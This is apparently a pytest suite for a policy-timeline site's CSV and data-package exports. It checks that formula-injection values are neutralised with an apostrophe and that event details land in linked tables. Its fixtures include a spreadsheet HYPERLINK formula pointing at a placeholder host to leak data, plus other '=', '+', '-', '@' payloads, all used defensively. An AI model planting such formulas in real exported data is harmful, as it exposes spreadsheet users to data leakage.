"""CSV tables: formula injection neutralised in every table, and every detail of events.json
(money, votes, disagreements, legal references and articles, tags) in a table of its own."""

from __future__ import annotations

import copy
import csv
import io
import json

import frictionless
import pytest
import yaml

from policy_timeline.catalog import load_catalog
from policy_timeline.exports import export_files
from policy_timeline.exports.csvdata import DETAIL_TABLES, FORMULA_START, TABLES, neutralise
from policy_timeline.render import render_pages
from policy_timeline.options import SiteOptions

from .conftest import SITE, write_files
from .records import ENTITIES, EVENTS, THREADS, TODAY, write_records

LEAK = '=HYPERLINK("http://x.example/?leak","click")'


def _hostile_records() -> tuple[dict, dict, dict]:
    """The export records with a formula at the start of every free-text field."""
    events = copy.deepcopy(EVENTS)
    proposal = events["2021-04-21-ai-act-proposal"]
    proposal.update(title=LEAK, caveat="=1+1 caveat", licence="@licence",
                    summary="- a list item [1]\n- another [2]", tags=["ai", "law"])
    proposal["participants"][0]["role"] = "+proposer"
    proposal["participants"][1]["role"] = "-subject"
    proposal["sources"][0].update(publisher="@SUM(1+1)", title="-2 things", via="=via",
                                  quote="+quote", note="=note")
    proposal["legal"].update(oj="=OJ L 1", version="-draft", articles=["=Art. 5", "Art. 6"])
    proposal["votes"] = [{"body": "=Council", "for": 20, "against": 3},
                         {"body": "Parliament", "for": 523, "against": 46, "abstentions": 49}]
    proposal["disagreements"] = [{"field": "=date", "note": "@note",
                                  "values": [{"value": "-1 day", "cite": [1]},
                                             {"value": "+2 days", "cite": [1, 2]}]}]
    trilogue = events["2023-12-06-trilogue"]
    trilogue["relations"][0]["note"] = "=relation note"
    events["2026-08-02-high-risk-rules-apply"]["schedule_history"][0]["note"] = "-moved"
    money = events["2024-06-mistral-series-b"]["money"]
    money.update(instrument="equity", note="=money note",
                 valuation={"amount": 5.8e9, "currency": "EUR", "basis": "post-money"})
    entities = copy.deepcopy(ENTITIES)
    entities["mistral-ai"].update(name="=Mistral", short_name="+M", description="@AI company")
    threads = copy.deepcopy(THREADS)
    threads["funding"].update(title="-Funding", introduction="=intro")
    return events, entities, threads


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    events, entities, threads = _hostile_records()
    folder = write_records(tmp_path_factory.mktemp("hostile"), events)
    dump = lambda data: yaml.safe_dump(data, sort_keys=False, allow_unicode=True)  # noqa: E731
    (folder / "entities.yaml").write_text(dump(entities), encoding="utf-8")
    (folder / "threads.yaml").write_text(dump(threads), encoding="utf-8")
    catalog = load_catalog(folder, today=TODAY)
    return catalog, export_files(catalog, SITE, {"datapackage"})


def _rows(files, name):
    return list(csv.DictReader(io.StringIO(files[f"data/{name}.csv"].decode("utf-8"), newline="")))


def _dangerous(cell: str) -> bool:
    return bool(cell) and (cell[0] in FORMULA_START or cell.lstrip()[:1] in FORMULA_START)


# The hostile value each table must show neutralised: (table, column, value as written).
EXPECTED = [
    ("events", "title", LEAK), ("events", "caveat", "=1+1 caveat"),
    ("events", "licence", "@licence"), ("events", "summary", "- a list item [1]\n- another [2]"),
    ("entities", "name", "=Mistral"), ("entities", "short_name", "+M"),
    ("entities", "description", "@AI company"),
    ("threads", "title", "-Funding"), ("threads", "introduction", "=intro"),
    ("participants", "role", "+proposer"), ("participants", "role", "-subject"),
    ("relations", "note", "=relation note"), ("reschedules", "note", "-moved"),
    ("sources", "publisher", "@SUM(1+1)"), ("sources", "title", "-2 things"),
    ("citations", "via", "=via"), ("citations", "quote", "+quote"), ("citations", "note", "=note"),
    ("money", "note", "=money note"), ("votes", "body", "=Council"),
    ("disagreements", "field", "=date"), ("disagreements", "note", "@note"),
    ("disagreement_claims", "value", "-1 day"), ("disagreement_claims", "value", "+2 days"),
    ("legal_references", "oj", "=OJ L 1"), ("legal_references", "version", "-draft"),
    ("legal_articles", "article", "=Art. 5"),
]


@pytest.mark.parametrize(("table", "column", "value"), EXPECTED,
                         ids=[f"{t}.{c}:{v[:8]}" for t, c, v in EXPECTED])
def test_formula_cells_are_written_as_text(hostile, table, column, value):
    _, files = hostile
    cells = [r[column] for r in _rows(files, table)]
    assert "'" + value in cells
    assert value not in cells


@pytest.mark.parametrize("table", [t.name for t in TABLES])
def test_no_table_has_a_cell_a_spreadsheet_would_run(hostile, table):
    _, files = hostile
    for row in _rows(files, table):
        for name, cell in row.items():
            assert not _dangerous(cell), (table, name, cell)


def test_numbers_dates_and_booleans_are_never_prefixed(hostile):
    """Only text columns are neutralised: typed columns stay valid for their type."""
    catalog, files = hostile
    number_columns = {(t.name, c.name) for t in TABLES for c in t.columns if c.type != "string"}
    for table, column in number_columns:
        for row in _rows(files, table):
            assert not row[column].startswith("'"), (table, column)
    votes = [v for v in _rows(files, "votes") if v["event_id"] == "2021-04-21-ai-act-proposal"]
    assert [(v["for"], v["against"], v["abstentions"]) for v in votes] == [
        ("20", "3", ""), ("523", "46", "49")]
    money = {m["event_id"]: m for m in _rows(files, "money")}
    assert money["2024-06-mistral-series-b"]["valuation_amount"] == "5800000000"


def test_the_hostile_package_still_validates(hostile, tmp_path):
    _, files = hostile
    write_files(files, tmp_path)
    report = frictionless.validate(str(tmp_path / "data" / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+33 1 23", "'+33 1 23"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("\u00a0@x", "'\u00a0@x"),
    ("\uff1d1+1", "'\uff1d1+1"),
    ("a=b", "a=b"), ("5-3", "5-3"), ("", ""), ("'quoted", "'quoted"), ("Mistral AI", "Mistral AI"),
])
def test_neutralise_follows_the_owasp_rule(value, written):
    assert neutralise(value) == written


def test_the_rule_is_documented_in_the_package_and_on_the_data_page(hostile):
    catalog, files = hostile
    descriptor = json.loads(files["data/datapackage.json"])
    assert "apostrophe" in descriptor["description"] and "formula" in descriptor["description"]
    def data_page(options):
        return render_pages(catalog, options)["data/index.md"].html

    for exports in (("csv",), ("datapackage",)):
        text = data_page(SiteOptions(site_name="T", exports=exports))
        assert "apostrophe" in text and "formula" in text
    assert "apostrophe" not in data_page(SiteOptions(site_name="T", exports=("json",)))


# ---------------------------------------------------------------------------------------
# The details of events.json, table by table


def test_every_detail_of_events_json_is_in_a_table(hostile):
    catalog, files = hostile
    events = {e["id"]: e for e in json.loads(export_files(catalog, SITE, {"json"})
                                            ["data/events.json"])["events"]}
    proposal = events["2021-04-21-ai-act-proposal"]
    votes = [r for r in _rows(files, "votes") if r["event_id"] == proposal["id"]]
    assert [(v["body"].lstrip("'"), int(v["for"]), int(v["against"]),
             int(v["abstentions"]) if v["abstentions"] else None) for v in votes] == [
        (v["body"], v["for"], v["against"], v.get("abstentions")) for v in proposal["votes"]]
    claims = [c for c in _rows(files, "disagreement_claims") if c["event_id"] == proposal["id"]]
    assert [(c["disagreement"], c["position"], c["value"].lstrip("'"), c["cite"]) for c in claims] \
        == [("1", "1", "-1 day", "1"), ("1", "2", "+2 days", "1;2")]
    assert [(d["field"], d["claim_count"]) for d in _rows(files, "disagreements")
            if d["event_id"] == proposal["id"]] == [("'=date", "2")]
    legal = {r["event_id"]: r for r in _rows(files, "legal_references")}
    assert legal[proposal["id"]]["procedure"] == proposal["legal"]["procedure"]
    assert legal[proposal["id"]]["com"] == "COM(2021) 206 final"
    articles = [(a["position"], a["article"]) for a in _rows(files, "legal_articles")
                if a["event_id"] == proposal["id"]]
    assert articles == [("1", "'=Art. 5"), ("2", "Art. 6")]
    money = {r["event_id"]: r for r in _rows(files, "money")}
    series_b = money["2024-06-mistral-series-b"]
    assert (series_b["amount"], series_b["currency"], series_b["approximate"],
            series_b["instrument"], series_b["valuation_currency"],
            series_b["valuation_basis"]) == ("600000000", "EUR", "true", "equity", "EUR",
                                             "post-money")
    assert [(t["event_id"], t["tag"]) for t in _rows(files, "event_tags")] == [
        (proposal["id"], "ai"), (proposal["id"], "law")]


def test_detail_tables_are_in_the_package_with_foreign_keys(hostile):
    _, files = hostile
    descriptor = json.loads(files["data/datapackage.json"])
    resources = {r["name"]: r for r in descriptor["resources"]}
    for table in DETAIL_TABLES:
        keys = resources[table.name]["schema"]["foreignKeys"]
        assert any(k["reference"]["resource"] in ("events", "legal_references", "disagreements")
                   for k in keys), table.name
        assert f"data/{table.file}" in files
    claims = resources["disagreement_claims"]["schema"]["foreignKeys"]
    assert {"fields": ["event_id", "disagreement"],
            "reference": {"resource": "disagreements", "fields": ["event_id", "position"]}} in claims


@pytest.mark.parametrize(("table", "old", "new"), [
    ("votes", "2021-04-21-ai-act-proposal,1,", "2099-01-01-nothing,1,"),
    ("disagreement_claims", "2021-04-21-ai-act-proposal,1,2,", "2021-04-21-ai-act-proposal,7,2,"),
    ("legal_articles", "2021-04-21-ai-act-proposal,2,", "2024-06-mistral-series-b,2,"),
    ("money", "2024-06-mistral-series-b,", "2024-06-mistral-series-z,"),
])
def test_detail_foreign_keys_are_checked(hostile, tmp_path, table, old, new):
    _, files = hostile
    write_files(files, tmp_path)
    path = tmp_path / "data" / f"{table}.csv"
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new), encoding="utf-8")
    report = frictionless.validate(str(tmp_path / "data" / "datapackage.json"))
    assert "foreign-key" in {e[0] for e in report.flatten(["type"])}


def test_obligations_table_says_what_applies_when(catalog):
    """obligations.csv: one row per application date, its first and current dates, what
    moved it or what it kept its date through, and its sources; in the data package."""
    from policy_timeline.obligations import is_obligation

    files = export_files(catalog, SITE, {"csv", "datapackage"})
    rows = {r["event_id"]: r for r in _rows(files, "obligations")}
    assert sorted(rows) == sorted(e.id for e in catalog.events if is_obligation(e))
    moved = rows["2026-08-02-high-risk-rules-apply"]
    assert (moved["original_date"], moved["current_date"], moved["moved_by"],
            moved["kept_through"], moved["state"]) == (
        "2026-08-02", "2027-12-02", "2026-06-29-omnibus-adopted", "", "rescheduled")
    assert moved["sources"].startswith("https://") and moved["page"].endswith(
        "events/2026-08-02-high-risk-rules-apply/")
    kept = rows["2027-08-02-gpai-deadline"]
    assert (kept["original_date"], kept["current_date"], kept["moved_by"],
            kept["kept_through"]) == ("2027-08-02", "2027-08-02", "",
                                      "2025-11-19-digital-omnibus-proposed;2026-06-29-omnibus-adopted")
    names = [r["name"] for r in json.loads(files["data/datapackage.json"])["resources"]]
    assert "obligations" in names
